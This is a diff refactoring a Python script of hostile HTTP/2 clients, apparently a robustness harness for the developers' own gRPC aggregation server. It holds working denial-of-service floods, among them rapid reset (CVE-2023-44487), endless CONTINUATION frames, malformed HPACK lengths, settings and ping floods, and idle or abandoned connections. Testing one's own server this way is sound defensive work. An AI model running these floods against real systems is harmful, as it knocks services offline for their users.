@@ -1,9 +1,8 @@
-"""Hostile HTTP/2 clients: each function below attacks a server until it is ended.
+"""Hostile HTTP/2 clients, by name.
 
     python attacks.py NAME HOST:PORT [CA]
 
-An attack sends what it has on all its connections as fast as the server takes it, from 127.0.0.2, and connects again
-when it is cut off. CA: PEM file of the server's authority; the connections then use TLS.
+CA: PEM file of the server's authority; the connections then use TLS.
 """
 
 from __future__ import annotations
@@ -15,23 +14,22 @@ import socket
 import ssl
 import struct
 import sys
-import threading
 import time
-from collections.abc import Callable, Iterable, Iterator
+from collections.abc import Callable, Iterator
 
-PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+import hostile
+from hostile import Address, Batches, connected, endless, flood, on_threads, unfinished
+
 DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
 END_STREAM, END_HEADERS, ACK = 1, 4, 1
 BATCH = 500  # frames of one send
 
-Address = tuple[str, int]
-
-# TLS of all connections, if there is an argument CA.
-tls: ssl.SSLContext | None = None
-
 
 def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
     return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
+
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
 
 
 def literal(name: bytes, value: bytes) -> bytes:
@@ -39,16 +37,10 @@ def literal(name: bytes, value: bytes) -> bytes:
     return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
 
 
-def call_headers(path: bytes, extra: bytes = b"") -> bytes:
+def call_headers(path: bytes) -> bytes:
     """The header block of a gRPC call."""
-    return (
-        b"\x83\x86"
-        + b"\x04" + bytes([len(path)]) + path
-        + literal(b"te", b"trailers")
-        + literal(b"content-type", b"application/grpc")
-        + b"\x01\x01x"
-        + extra
-    )  # fmt: skip
+    of_grpc = literal(b"te", b"trailers") + literal(b"content-type", b"application/grpc")
+    return b"\x83\x86\x04" + bytes([len(path)]) + path + of_grpc + b"\x01\x01x"
 
 
 INFO = call_headers(b"/sparseagg.v1.Aggregation/GetServerInfo")
@@ -59,50 +51,13 @@ WATCH = call_headers(b"/grpc.health.v1.Health/Watch")
 STREAM_RESULT = call_headers(b"/sparseagg.v1.Aggregation/StreamResult")
 
 
-def connected(address: Address) -> socket.socket:
-    peer = socket.create_connection(address, timeout=5, source_address=("127.0.0.2", 0))
-    if tls is not None:
-        peer = tls.wrap_socket(peer, server_hostname="127.0.0.1")
-    peer.sendall(PREFACE + frame(SETTINGS, 0, 0))
-    return peer
-
-
-def drain(peer: socket.socket) -> None:
-    """Takes and drops all that the server sends, until it closes."""
-    with contextlib.suppress(OSError):
-        while peer.recv(1 << 16):
-            pass
-
-
-def streams() -> Iterator[int]:
-    return itertools.count(1, 2)
-
-
-def flood(address: Address, batches: Callable[[], Iterable[bytes]], connections: int = 4, reads: bool = True) -> None:
-    """Sends the batches on each of the connections, again and again. With TLS nothing is read: a socket of Python's
-    ssl serves one thread."""
-    reads = reads and tls is None
-
-    def one() -> None:
-        while True:
-            with contextlib.suppress(OSError), connected(address) as peer:
-                if reads:
-                    threading.Thread(target=drain, args=(peer,), daemon=True).start()
-                for batch in batches():
-                    peer.sendall(batch)
-                time.sleep(0.2)  # an attacker that has sent all, and looks whether that was enough
-            time.sleep(0.01)
-
-    for _ in range(connections - 1):
-        threading.Thread(target=one, daemon=True).start()
-    one()
-
-
 def calls(
     headers: bytes, flags: int = END_HEADERS, after: Callable[[int], bytes] = lambda stream: b""
 ) -> Callable[[], Iterator[bytes]]:
+    """Calls without end, and what comes behind the headers of each."""
+
     def batches() -> Iterator[bytes]:
-        numbers = streams()
+        numbers = itertools.count(1, 2)
         while True:
             batch = itertools.islice(numbers, BATCH)
             yield b"".join(frame(HEADERS, flags, stream, headers) + after(stream) for stream in batch)
@@ -110,116 +65,75 @@ def calls(
     return batches
 
 
-def repeated(frames: bytes, before: bytes = b"") -> Callable[[], Iterator[bytes]]:
-    def batches() -> Iterator[bytes]:
-        yield before
-        yield from itertools.repeat(frames * max(1, (1 << 16) // len(frames)))
-
-    return batches
+def open_calls(number: int, headers: bytes, message: bytes | None = None, is_whole: bool = True) -> Batches:
+    """Calls that stay open, with a message or without."""
+    flags = END_STREAM if is_whole else 0
+    return unfinished(
+        b"".join(
+            frame(HEADERS, END_HEADERS, stream, headers)
+            + (b"" if message is None else frame(DATA, flags, stream, message))
+            for stream in range(1, 2 * number, 2)
+        )
+    )
 
 
 def reset(stream: int) -> bytes:
     return frame(RESET, 0, stream, struct.pack(">I", 8))
 
 
-def rapid_reset(address: Address) -> None:
-    """Streams opened and reset at once (CVE-2023-44487)."""
-    flood(address, calls(INFO, after=reset), connections=1)
+def window_setting(size: int) -> bytes:
+    return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, size))
 
 
-def rapid_reset_unread(address: Address) -> None:
-    """The same on four connections that read nothing."""
-    flood(address, calls(INFO, after=reset), reads=False)
+def begun(of_headers: bytes) -> bytes:
+    """A header block that goes on."""
+    return frame(HEADERS, 0, 1, of_headers)
 
 
-def unknown_methods(address: Address) -> None:
-    """Calls of a method that is not there, on connections that read nothing."""
-    flood(address, calls(UNKNOWN, END_HEADERS | END_STREAM), reads=False)
-
-
-def continuation(address: Address) -> None:
-    """A header block that never ends, of small headers (CVE-2024-27316)."""
-    flood(address, repeated(frame(CONTINUATION, 0, 1, literal(b"a", b"b") * 1000), frame(HEADERS, 0, 1, INFO)))
-
-
-def long_string(address: Address) -> None:
-    """A header whose value is announced with 2 GiB (CVE-2023-33953)."""
-    begin = frame(HEADERS, 0, 1, b"\x00\x01a\x7f\x81\xff\xff\xff\x07")
-    flood(address, repeated(frame(CONTINUATION, 0, 1, bytes(16000)), begin))
-
-
-def zero_varint(address: Address) -> None:
-    """A number with bytes that add nothing to it, without an end (CVE-2023-33953)."""
-    begin = frame(HEADERS, 0, 1, b"\x00\x01a\x7f" + b"\x80" * 100)
-    flood(address, repeated(frame(CONTINUATION, 0, 1, b"\x80" * 16000), begin))
-
-
-def big_headers(address: Address) -> None:
-    """Calls with 14 KB of headers each."""
-    flood(address, calls(INFO + literal(b"k", b"v" * 120) * 110))
-
-
-def no_message(address: Address) -> None:
-    """Calls whose message never comes: 2000 on each of 60 connections."""
-
-    def batches() -> Iterator[bytes]:
-        numbers = streams()
-        for _ in range(4):
-            yield b"".join(frame(HEADERS, END_HEADERS, stream, SUBMIT) for stream in itertools.islice(numbers, BATCH))
-        time.sleep(1e6)
-
-    flood(address, batches, connections=60)
-
-
-def health_watches(address: Address) -> None:
-    """Streams of the health service: 2000 on each of 20 connections."""
-
-    def batches() -> Iterator[bytes]:
-        numbers = streams()
-        for _ in range(4):
-            pairs = (frame(HEADERS, END_HEADERS, s, WATCH) + frame(DATA, END_STREAM, s, bytes(5))
-                     for s in itertools.islice(numbers, BATCH))  # fmt: skip
-            yield b"".join(pairs)
-        time.sleep(1e6)
-
-    flood(address, batches, connections=20)
-
-
-def settings(address: Address) -> None:
-    """SETTINGS frames."""
-    flood(address, repeated(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))))
-
-
-def settings_toggle(address: Address) -> None:
-    """The size of windows, changed to and fro while calls are open."""
-    toggled = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1)) + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1 << 30))
-    opened = b"".join(frame(HEADERS, END_HEADERS, stream, SUBMIT) for stream in range(1, 4001, 2))
-    flood(address, repeated(toggled, opened))
-
-
-def pings(address: Address) -> None:
-    """PING frames, whose answers are not read."""
-    flood(address, repeated(frame(PING, 0, 0, bytes(8))), reads=False)
-
-
-def priorities(address: Address) -> None:
-    """PRIORITY frames."""
-    flood(address, repeated(frame(PRIORITY, 0, 1, bytes(5))))
-
-
-def small_windows(address: Address) -> None:
-    """Window updates of one byte."""
-    flood(address, repeated(frame(WINDOW, 0, 0, struct.pack(">I", 1))))
-
-
-def empty_data(address: Address) -> None:
-    """DATA frames without data in one call."""
-    flood(address, repeated(frame(DATA, 0, 1), frame(HEADERS, END_HEADERS, 1, SUBMIT)))
-
-
-def unknown_frames(address: Address) -> None:
-    """Frames of a type that is not there."""
-    flood(address, repeated(frame(200, 0, 0)))
+# What an attack sends, on how many connections, and whether it reads answers.
+FLOODS: dict[str, tuple[Batches, int, bool]] = {
+    # Streams opened and reset at once (CVE-2023-44487).
+    "rapid_reset": (calls(INFO, after=reset), 1, True),
+    "rapid_reset_unread": (calls(INFO, after=reset), 4, False),
+    # Calls of a method that is not there.
+    "unknown_methods": (calls(UNKNOWN, END_HEADERS | END_STREAM), 4, False),
+    # A header block that never ends, of small headers (CVE-2024-27316).
+    "continuation": (endless(begun(INFO), frame(CONTINUATION, 0, 1, literal(b"a", b"b") * 1000)), 4, True),
+    # A header whose value is announced with 2 GiB (CVE-2023-33953).
+    "long_string": (
+        endless(begun(b"\x00\x01a\x7f\x81\xff\xff\xff\x07"), frame(CONTINUATION, 0, 1, bytes(16000))), 4, True,
+    ),
+    # A number with bytes that add nothing to it, without an end (CVE-2023-33953).
+    "zero_varint": (
+        endless(begun(b"\x00\x01a\x7f" + b"\x80" * 100), frame(CONTINUATION, 0, 1, b"\x80" * 16000)), 4, True,
+    ),
+    # Calls with 14 KB of headers each.
+    "big_headers": (calls(INFO + literal(b"k", b"v" * 120) * 110), 4, True),
+    # Calls whose message never comes.
+    "no_message": (open_calls(2000, SUBMIT), 60, True),
+    # Streams of the health service.
+    "health_watches": (open_calls(2000, WATCH, bytes(5)), 20, True),
+    "settings": (endless(b"", window_setting(65535)), 4, True),
+    # The size of windows, changed to and fro while calls are open.
+    "settings_toggle": (
+        endless(
+            b"".join(frame(HEADERS, END_HEADERS, stream, SUBMIT) for stream in range(1, 4001, 2)),
+            window_setting(1) + window_setting(1 << 30),
+        ), 4, True,
+    ),
+    "pings": (endless(b"", frame(PING, 0, 0, bytes(8))), 4, False),
+    "priorities": (endless(b"", frame(PRIORITY, 0, 1, bytes(5))), 4, True),
+    # Window updates of one byte.
+    "small_windows": (endless(b"", frame(WINDOW, 0, 0, struct.pack(">I", 1))), 4, True),
+    # DATA frames without data in one call.
+    "empty_data": (endless(frame(HEADERS, END_HEADERS, 1, SUBMIT), frame(DATA, 0, 1)), 4, True),
+    # Frames of a type that is not there.
+    "unknown_frames": (endless(b"", frame(200, 0, 0)), 4, True),
+    # Batches of 1 MiB each, of which 600 bytes come.
+    "unfinished_batches": (
+        open_calls(100, BATCHES, b"\x00" + (1 << 20).to_bytes(4, "big") + bytes(600), is_whole=False), 30, True,
+    ),
+}  # fmt: skip
 
 
 def idle(address: Address) -> None:
@@ -228,6 +142,7 @@ def idle(address: Address) -> None:
     while True:
         with contextlib.suppress(OSError):
             open_connections.append(connected(address))
+            open_connections[-1].sendall(PREFACE)
         if len(open_connections) > 1100:
             open_connections.pop(0).close()
             time.sleep(0.01)
@@ -246,15 +161,7 @@ def unread_results(address: Address) -> None:
     name = opened.name.encode()
     request = b"\x0a" + bytes([len(name)]) + name  # StreamResultRequest.name
     message = b"\x00" + len(request).to_bytes(4, "big") + request
-
-    def batches() -> Iterator[bytes]:
-        yield b"".join(
-            frame(HEADERS, END_HEADERS, s, STREAM_RESULT) + frame(DATA, END_STREAM, s, message)
-            for s in itertools.islice(streams(), 100)
-        )
-        time.sleep(1e6)
-
-    flood(address, batches, connections=30, reads=False)
+    flood(address, open_calls(100, STREAM_RESULT, message), connections=30, reads=False, preface=PREFACE)
 
 
 def cancelled_calls(address: Address) -> None:
@@ -262,29 +169,13 @@ def cancelled_calls(address: Address) -> None:
     import grpc
 
     def one() -> None:
-        with grpc.insecure_channel(
-            f"{address[0]}:{address[1]}", options=[("grpc.use_local_subchannel_pool", 1)]
-        ) as channel:
+        options = [("grpc.use_local_subchannel_pool", 1)]
+        with grpc.insecure_channel(f"{address[0]}:{address[1]}", options=options) as channel:
             call = channel.unary_unary("/sparseagg.v1.Aggregation/GetServerInfo")
             while True:
                 call.future(b"").cancel()
 
-    for _ in range(2):
-        threading.Thread(target=one, daemon=True).start()
-    one()
-
-
-def unfinished_batches(address: Address) -> None:
-    """Batches of 1 MiB each, of which 600 bytes come: 100 on each of 30 connections."""
-    begun = b"\x00" + (1 << 20).to_bytes(4, "big") + bytes(600)
-
-    def batches() -> Iterator[bytes]:
-        yield b"".join(
-            frame(HEADERS, END_HEADERS, s, BATCHES) + frame(DATA, 0, s, begun) for s in itertools.islice(streams(), 100)
-        )
-        time.sleep(1e6)
-
-    flood(address, batches, connections=30)
+    on_threads(one, 3)
 
 
 def abandoned_uploads(address: Address) -> None:
@@ -310,7 +201,7 @@ def abandoned_uploads(address: Address) -> None:
         parts = (data[at : at + (1 << 14)] for at in range(0, len(data), 1 << 14))
         return frame(HEADERS, END_HEADERS, stream, SUBMIT) + b"".join(frame(DATA, 0, stream, part) for part in parts)
 
-    flood(address, lambda: (upload(stream) for stream in itertools.islice(streams(), 20)), connections=30)
+    flood(address, lambda: map(upload, range(1, 41, 2)), connections=30, preface=PREFACE, pause=0.2)
 
 
 def lying_batches(address: Address) -> None:
@@ -346,20 +237,13 @@ def lying_batches(address: Address) -> None:
                 with contextlib.suppress(grpc.RpcError):
                     call(request)
 
-    for _ in range(3):
-        threading.Thread(target=one, daemon=True).start()
-    one()
+    on_threads(one, 4)
 
 
-ATTACKS: dict[str, Callable[[Address], None]] = {
-    attack.__name__: attack
-    for attack in (
-        rapid_reset, rapid_reset_unread, unknown_methods, cancelled_calls, continuation, long_string, zero_varint,
-        big_headers, idle, no_message, health_watches, settings, settings_toggle, pings, priorities, small_windows,
-        empty_data, unknown_frames, unread_results, unfinished_batches, abandoned_uploads,
-        lying_batches,
-    )
-}  # fmt: skip
+OTHERS = {
+    attack.__name__: attack for attack in (idle, unread_results, cancelled_calls, abandoned_uploads, lying_batches)
+}
+ATTACKS = [*FLOODS, *OTHERS]
 
 
 def command(name: str, address: str, *ca: str) -> list[str]:
@@ -370,6 +254,11 @@ def command(name: str, address: str, *ca: str) -> list[str]:
 if __name__ == "__main__":
     host, _, port = sys.argv[2].rpartition(":")
     if len(sys.argv) > 3:
-        tls = ssl.create_default_context(cafile=sys.argv[3])
-        tls.set_alpn_protocols(["h2"])
-    ATTACKS[sys.argv[1]]((host, int(port)))
+        hostile.tls = ssl.create_default_context(cafile=sys.argv[3])
+        hostile.tls.set_alpn_protocols(["h2"])
+    if sys.argv[1] in OTHERS:
+        OTHERS[sys.argv[1]]((host, int(port)))
+    else:
+        batches, connections, reads = FLOODS[sys.argv[1]]
+        # An attacker that has sent all looks whether that was enough, before it closes.
+        flood((host, int(port)), batches, connections, reads, PREFACE, pause=0.2)
